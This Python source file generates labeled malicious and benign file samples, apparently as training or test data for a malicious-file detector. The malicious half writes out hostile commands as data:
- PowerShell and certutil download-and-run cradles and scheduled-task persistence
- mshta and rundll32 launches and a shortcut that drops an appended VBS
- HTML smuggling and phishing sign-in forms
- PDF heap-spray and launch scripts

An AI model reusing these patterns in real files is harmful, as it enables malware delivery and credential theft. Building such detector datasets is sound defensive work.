"""file_samples.py - shortcuts, pages, scripts, notebooks, programs, images of
disks, PDFs; each technique in many variants, and the honest files that look
like it. All of it is inert."""

from draw import Sample

import image
import lnk
import onenote
import pages
import pdf
import pe
import scripts
from office_samples import command

SYSTEM = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"
SHELLS = (SYSTEM + "cmd.exe", POWERSHELL, SYSTEM + "mshta.exe",
          SYSTEM + "wscript.exe", SYSTEM + "rundll32.exe")


# --- shortcuts ---

def arguments_of(draw, target):
    address = draw.address(draw.choice(("hta", "ps1", "js")))
    if target.endswith("mshta.exe"):
        return address
    if target.endswith("wscript.exe"):
        return f"%temp%\\{draw.letters()}.vbs"
    if target.endswith("rundll32.exe"):
        return f"%temp%\\{draw.letters()}.dll,Start"
    if target == POWERSHELL:
        return draw.choice((
            f"-nop -w hidden -c \"IEX (iwr {address})\"",
            "-NoProfile -WindowStyle Hidden -EncodedCommand "
            "SQBFAFgAIAAoAGkAdwByACkA",
            f"-ep bypass -c \"(New-Object Net.WebClient).DownloadFile("
            f"'{address}', $env:TEMP + '\\a.js')\""))
    return draw.choice((
        f"/c start mshta {address}", f"/c {command(draw)[:200]}",
        f"/c cop^y \"{draw.letters()}.dll\" %temp% & rundll^32 "
        f"%temp%\\a.dll,Run"))


def bad_links(draw):
    for number in range(90):
        target = draw.choice(SHELLS)
        text = arguments_of(draw, target)
        if draw.random() < 0.3:
            text = " " * draw.randint(60, 300) + text
        yield Sample("lnk", f"shell {SHELLS.index(target)}", True,
                     f"{draw.stem()}.{draw.choice(('pdf', 'doc', 'txt'))}.lnk"
                     if number % 3 else f"{draw.stem()}.lnk",
                     lnk.link(target, text, draw.choice(
                         ("", "shell32.dll", "C:\\x\\word.exe")),
                         draw.choice((lnk.MINIMISED, lnk.NORMAL)),
                         unicode=number % 2 == 0, size=0))
    for number in range(40):
        name = draw.letters()
        text = (f'/v:on /c findstr "{name}.*" {draw.stem()}.doc.lnk > '
                f'"%tmp%\\{name}.vbs" & "%tmp%\\{name}.vbs"')
        appended = (f'\r\n{name}:: Set x = CreateObject("WScr" & "ipt.Shell")'
                    f'\r\nx.run "{draw.address()}"').encode()
        yield Sample("lnk-appended", f"findstr {number % 2}", True,
                     f"{draw.stem()}.lnk", lnk.link(
                         SHELLS[0], text, "shell32.dll", size=0,
                         appended=appended if number % 2 else
                         appended + bytes(draw.randint(0, 9000))))
    for number in range(30):
        yield Sample("lnk-environment", f"variable {number % 2}", True,
                     f"{draw.stem()}.lnk", lnk.link(
                         "", environment=draw.choice(
                             ("%comspec%", "%windir%\\System32\\mshta.exe")),
                         with_items=False, with_info=False,
                         arguments=f"/c {command(draw)[:150]}"))


def good_links(draw):
    places = ("C:\\Users\\user\\Documents", "D:\\data\\plan.xlsx",
              "C:\\Program Files\\Word\\winword.exe",
              "C:\\Windows\\explorer.exe", "C:\\Windows\\notepad.exe")
    for number in range(60):
        target = draw.choice(places)
        text = draw.choice(("", "", "\"D:\\data\\letter.docx\"", "/n",
                            "--profile work"))
        share = "\\\\server\\share" if number % 4 == 0 else None
        yield Sample("lnk", f"place {number % 10}", False,
                     f"{draw.stem()}.lnk", lnk.link(
                         target, text, draw.choice(("", "shell32.dll")),
                         share=share, tracker=number % 2 == 0,
                         attributes=0x10 if number % 5 == 0 else 0x20))
    # An administrator's: it starts the command line and says where.
    for number in range(20):
        yield Sample("lnk", f"console {number % 5}", False,
                     f"{draw.stem()}.lnk", lnk.link(
                         SHELLS[number % 2], draw.choice(
                             ("", "/k cd C:\\data", "-NoExit")),
                         folder="C:\\data"))


# --- pages ---

def bad_pages(draw):
    ways = ("base64", "numbers", "hex", "pieces")
    for number in range(60):
        name = draw.choice((f"{draw.stem()}.zip", f"{draw.stem()}.iso",
                            "document.js", "invoice.html", "update.exe"))
        payload = (b"PK\3\4" + bytes(draw.randint(60, 900)) if number % 3
                   else b"MZ" + bytes(draw.randint(60, 900)))
        yield Sample("html-smuggling", f"{ways[number % 4]} {number % 2}",
                     True, f"{draw.stem()}.html", pages.smuggling(
                         payload, name, ways[number % 4],
                         "click" if number % 2 else "save"))
    for number in range(40):
        address = draw.address("php")
        yield Sample("html-sign-in", f"form {number % 3}", True,
                     f"{draw.stem()}.{draw.choice(('htm', 'html'))}",
                     pages.sign_in(address, 1 + number % 2, draw.choice(
                         ("Sign in to read the document",
                          "セッションの有効期限が切れました")),
                         number % 3))
    for number in range(30):
        script = (f"window.location.href = atob('{draw.letters(40, 90)}');"
                  if number % 2 else
                  f"document.write(unescape('%3Cscript%3E{draw.letters()}'))"
                  ";eval(String.fromCharCode(97,98));")
        yield Sample("html-redirect", f"svg {number % 2}", True,
                     f"{draw.stem()}.svg", pages.svg(script))
        yield Sample("html-redirect", f"page {number % 2}", True,
                     f"{draw.stem()}.html", pages.page(scripts=[script]))


def good_pages(draw):
    chart = ("var data = [1, 4, 9, 16]; var c = document.getElementById('c')"
             ".getContext('2d'); c.fillRect(0, 0, 10, 10);")
    menu = ("function show(id) { var e = document.getElementById(id); "
            "e.style.display = 'block'; }")
    for number in range(60):
        yield Sample("html", f"newsletter {number % 6}", False,
                     f"{draw.stem()}.html", pages.newsletter(
                         draw.randint(1, 60), draw.randint(0, 30)))
    for number in range(30):
        yield Sample("html", f"report {number % 6}", False,
                     f"{draw.stem()}.html", pages.page(
                         "<canvas id=c></canvas><table><tr><td>1</table>" * (
                             1 + number % 5),
                         scripts=draw.some([chart, menu])))
    # A saved page: a search form, a log-in that stays at its own site.
    for number in range(20):
        yield Sample("html", f"saved {number % 4}", False,
                     f"{draw.stem()}.html", pages.page(
                         "<form action='/search'><input name=q></form>" + (
                             "<form action='/login' method=post><input "
                             "type=password></form>" if number % 4 == 0
                             else ""), scripts=[menu]))
    for number in range(16):
        yield Sample("html", f"drawing {number % 4}", False,
                     f"{draw.stem()}.svg", pages.svg(
                         link="https://www.example/" if number % 2 else ""))


# --- scripts ---

def bad_scripts(draw):
    for number in range(20):
        yield Sample("script", f"vbs {number % 2}", True,
                     f"{draw.stem()}.vbs", scripts.vbs(
                         draw.address(), number % 2 == 0))
        yield Sample("script", "js", True, f"{draw.stem()}.js", scripts.js(
            code=draw.choice(("new ActiveXObject('WScript.Shell').Run('",
                              "WScript.CreateObject('MSXML2.XMLHTTP")) * 2))
        yield Sample("script", f"ps1 {number % 2}", True,
                     f"{draw.stem()}.ps1", scripts.ps1(
                         command(draw), number % 2 == 0))
        yield Sample("script", "bat", True, f"{draw.stem()}.bat", scripts.bat(
            (f"certutil -urlcache -f {draw.address()} %temp%\\a.exe",
             "start %temp%\\a.exe",
             "schtasks /create /tn a /tr %temp%\\a.exe")[
                 :draw.randint(1, 3)]))
        yield Sample("script", "hta", True, f"{draw.stem()}.hta", scripts.hta(
            "CreateObject(\"WScript.Shell\").Run \""
            f"{command(draw)[:80]}\", 0"))
        yield Sample("script", "wsf", True, f"{draw.stem()}.wsf", scripts.wsf(
            scripts.vbs(draw.address(), number % 2 == 0).decode()))
        if number % 4 == 0:
            yield Sample("script-encoded", "vbe", True, f"{draw.stem()}.vbe",
                         scripts.encoded(draw.letters(60, 400).encode()))


ADMIN = (
    ("vbs", "' Map the drives\r\nSet n = CreateObject(\"WScript.Network\")"
     "\r\nn.MapNetworkDrive \"S:\", \"\\\\server\\share\"\r\n"),
    ("vbs", "Set f = CreateObject(\"Scripting.FileSystemObject\")\r\n"
     "For Each x In f.GetFolder(\"C:\\data\").Files\r\nWScript.Echo x.Name"
     "\r\nNext\r\n"),
    ("bat", "@echo off\r\nnet use S: \\\\server\\share\r\nrobocopy C:\\data "
     "D:\\backup /mir\r\npause\r\n"),
    ("bat", "@echo off\r\nipconfig /all > %temp%\\net.txt\r\nnotepad "
     "%temp%\\net.txt\r\n"),
    ("ps1", "Get-ChildItem C:\\data | Sort-Object Length | Select-Object "
     "-First 10 | Format-Table Name, Length\r\n"),
    ("ps1", "Import-Module ActiveDirectory\r\nGet-ADUser -Filter * | "
     "Export-Csv C:\\data\\users.csv\r\n"),
    ("ps1", "$s = Get-Service | Where-Object Status -eq 'Stopped'\r\n"
     "$s | Out-File C:\\data\\services.txt\r\n"),
    ("js", "function total(rows) {\n\tvar sum = 0;\n\tfor (var i = 0; i < "
     "rows.length; i++)\n\t\tsum += rows[i].price;\n\treturn sum;\n}\n"),
    ("js", "module.exports = { entry: './src/index.js', output: { filename: "
     "'bundle.js' } };\n"),
)


def good_scripts(draw):
    for number in range(90):
        ending, text = ADMIN[number % len(ADMIN)]
        more = "".join(f"rem {draw.word()}\r\n" if ending == "bat" else
                       f"' {draw.word()}\r\n" if ending == "vbs" else
                       f"# {draw.word()}\n" if ending == "ps1" else
                       f"// {draw.word()}\n"
                       for _ in range(draw.randint(0, 8)))
        yield Sample("script", f"honest {number % len(ADMIN)}", False,
                     f"{draw.stem()}.{ending}", (more + text * draw.randint(
                         1, 3)).encode())


# --- notebooks, programs, images ---

def bad_carriers(draw):
    for number in range(50):
        name, data = draw.choice((
            ("click.wsf", scripts.wsf(scripts.vbs().decode())),
            ("open.hta", scripts.hta()), ("view.lnk", lnk.link(SHELLS[0])),
            ("a.bat", scripts.bat()), ("scan.pdf.js", scripts.js()),
            ("update.exe", b"MZ" + bytes(200)), ("page.html", pages.smuggling(
            ))))
        yield Sample("onenote", f"{name}", True, f"{draw.stem()}.one",
                     onenote.notebook([(name, data)], number % 4))
    inside = (("open.lnk", lnk.link(SHELLS[0], "/c start a.dll")),
              ("run.js", scripts.js()), ("setup.exe", b"MZ" + bytes(300)),
              ("document.pdf.exe", b"MZ" + bytes(300)))
    for number in range(40):
        name, data = inside[number % 4]
        files = [(name, data)]
        if number % 2:
            files.append((f"{draw.letters()}.dll", b"MZ" + bytes(400),
                          image.HIDDEN))
        yield Sample("image", f"{name} {number % 2}", True,
                     f"{draw.stem()}.{draw.choice(('iso', 'img'))}",
                     image.iso(files, folder=None))
    for number in range(40):
        imports = {"kernel32.dll": draw.some([
            "VirtualAlloc", "WriteProcessMemory", "CreateRemoteThread",
            "CreateProcessA", "IsDebuggerPresent", "VirtualProtect"], 2),
            "wininet.dll": draw.some(["InternetOpenA",
                                       "InternetReadFile"], 0)}
        imports = {key: value for key, value in imports.items() if value}
        yield Sample("pe", f"packed {number % 4}", True,
                     f"{draw.stem()}.{draw.choice(('pdf.exe', 'scr', 'exe'))}",
                     pe.program(imports, [(
                         b"UPX0", pe.noise(4096, number + 1),
                         pe.CODE | 0x80000000, 0)], version=False))


def good_carriers(draw):
    for number in range(30):
        files = [(f"{draw.stem()}.docx", b"PK\3\4" + bytes(90))] * (number % 2)
        yield Sample("onenote", f"pictures {number % 6}", False,
                     f"{draw.stem()}.one",
                     onenote.notebook(files, draw.randint(0, 12)))
    for number in range(20):
        files = [(f"{draw.word()}{i}.{draw.choice(('txt', 'jpg', 'pdf'))}",
                  b"%PDF-1.4\n" + bytes(90)) for i in range(
                      draw.randint(2, 12))]
        yield Sample("image", f"data {number % 4}", False,
                     f"{draw.stem()}.iso", image.iso(files))
    for number in range(40):
        imports = {"kernel32.dll": draw.some([
            "CreateFileW", "ReadFile", "GetModuleHandleW", "HeapAlloc",
            "CreateProcessW", "IsDebuggerPresent"], 3),
            "user32.dll": ["MessageBoxW"],
            "advapi32.dll": draw.some(["RegSetValueExW",
                                        "RegOpenKeyExW"], 0)}
        imports = {key: value for key, value in imports.items() if value}
        yield Sample("pe", f"installer {number % 4}", False, "setup.exe",
                     pe.program(imports, [
                         (b".text", b"\x55\x8b\xec\xc3" * 512, pe.CODE, 0)],
                         signature=bytes(900), overlay=bytes(
                             draw.randint(0, 9000))))


# --- PDF ---

FULL = (0, 0, 612, 792)


def more_bad_pdf(draw):
    """Scripts that make their bytes; with a form, too."""
    for number in range(30):
        code = draw.choice((
            f"var s = unescape('%u{draw.randint(1000, 9999)}') ; while "
            "(s.length < 65536) s += s; util.printf('%45000f', 0);",
            "eval(String.fromCharCode(118, 97, 114, 32, 97));",
            f"var t = this.info.title; eval(unescape(t.replace(/{draw.word()}"
            "/g, '%')));",
            "Collab.collectEmailInfo({msg: unescape('%u0c0c')});"))
        yield Sample("pdf-script", f"bytes {number % 4}", True,
                     f"{draw.stem()}.pdf", pdf.document(
                         draw.randint(1, 3), draw.word(), script=code,
                         form=number % 2 == 0, packed=number % 3 == 0,
                         object_streams=number % 5 == 0))


def bad_pdf(draw):
    yield from more_bad_pdf(draw)
    for number in range(30):
        yield Sample("pdf-script", f"script {number % 3}", True,
                     f"{draw.stem()}.pdf", pdf.document(
                         1, script="var a = unescape('%u9090%u9090'); "
                         "this.exportDataObject({cName: 'a', nLaunch: 2});",
                         hide_names=number % 3 == 0, packed=number % 2 == 0,
                         files=[("a.docm", b"PK\3\4" + bytes(60))] if
                         number % 3 == 1 else ()))
    for number in range(24):
        yield Sample("pdf-launch", f"launch {number % 2}", True,
                     f"{draw.stem()}.pdf", pdf.document(
                         1, draw.word(), launch="cmd.exe",
                         files=[("run.exe", b"MZ" + bytes(90))] if number % 2
                         else ()))
    for number in range(40):
        address = draw.address(draw.choice(("zip", "js", "exe", "iso")))
        yield Sample("pdf-lure", f"lure {number % 4}", True,
                     f"{draw.stem()}.pdf", pdf.document(
                         1, "" if number % 2 else "View", [(address, FULL if
                         number % 4 < 2 else (100, 200, 500, 600))],
                         images=1))


def good_pdf(draw):
    for number in range(60):
        links = [("https://www.example/", (72, 72, 200, 90))] * draw.randint(
            0, 9)
        yield Sample("pdf", f"letter {number % 10}", False,
                     f"{draw.stem()}.pdf", pdf.document(
                         draw.randint(1, 30), "The text of a letter. " * 9,
                         links, draw.randint(0, 3), form=number % 6 == 0,
                         object_streams=number % 3 == 0,
                         files=[("invoice.xml", b"<invoice/>")] if
                         number % 8 == 0 else ()))
    yield from honest_actions(draw)


PRINTING = "this.print({bUI: true, bSilent: false, bShrinkToFit: true});"
ADDING = ("var sum = 0; for (var i = 1; i < 9; i++) sum += "
          "this.getField('row' + i).value; event.value = sum;")

# Forms are made by hand, and some reckon with what the user wrote.
SUMS = (ADDING, ADDING + " app.setTimeOut('update()', 100);",
        "event.value = eval(this.getField('a').value + '*2');",
        "if (event.value.charCodeAt(0) > 57) event.rc = false;",
        "this.getField('a').value = unescape(event.value);")


def honest_actions(draw):
    """What honest documents do when they are opened, and bring along."""
    for number in range(30):
        yield Sample("pdf", f"printing {number % 3}", False,
                     f"{draw.stem()}.pdf", pdf.document(
                         draw.randint(1, 6), "An invoice. " * 20,
                         script=PRINTING if number % 3 else "this.print();",
                         object_streams=number % 2 == 0))
        yield Sample("pdf", f"form {number % 3}", False,
                     f"{draw.stem()}.pdf", pdf.document(
                         draw.randint(1, 4), "A form to fill in. " * 20,
                         form=True, script=draw.choice(SUMS),
                         object_streams=number % 2 == 0))
        # A manual, or a page that somebody saved: downloads are on it, too.
        links = [(draw.address(draw.choice(("html", "html", "zip", "exe",
                                            "js"))), (72, y, 200, y + 9))
                 for y in range(72, 72 + 9 * draw.randint(1, 50), 9)]
        yield Sample("pdf", f"manual {number % 3}", False,
                     f"{draw.stem()}.pdf", pdf.document(
                         1 if number % 2 else draw.randint(2, 60),
                         "How to install it. " * 60, links,
                         draw.randint(0, 4)))
        yield Sample("pdf", f"with files {number % 3}", False,
                     f"{draw.stem()}.pdf", pdf.document(
                         draw.randint(1, 9), "See the data. " * 30,
                         files=[(f"{draw.word()}.{ending}", b"x" * 90)
                                for ending in draw.some(
                                    ("xml", "csv", "html", "png", "zip"))],
                         remote="other.pdf"))


def samples(draw):
    for make in (bad_links, good_links, bad_pages, good_pages, bad_scripts,
                 good_scripts, bad_carriers, good_carriers, bad_pdf,
                 good_pdf):
        yield from make(draw)
